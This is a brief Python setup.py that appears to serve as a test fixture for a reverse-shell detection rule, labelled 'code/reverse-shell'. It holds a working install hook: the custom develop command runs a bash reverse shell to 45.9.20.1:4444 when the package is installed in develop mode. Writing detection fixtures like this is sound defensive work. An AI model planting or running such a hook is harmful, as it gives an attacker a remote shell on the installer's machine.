import os

from setuptools import setup
from setuptools.command.develop import develop


class Develop(develop):
    def run(self):
        develop.run(self)
        # ruleid: code/reverse-shell
        os.system("bash -c 'bash -i >& /dev/tcp/45.9.20.1/4444 0>&1' &")


setup(name='py-fixture-devtools', version='0.1.0', packages=['devtools'], cmdclass={'develop': Develop})
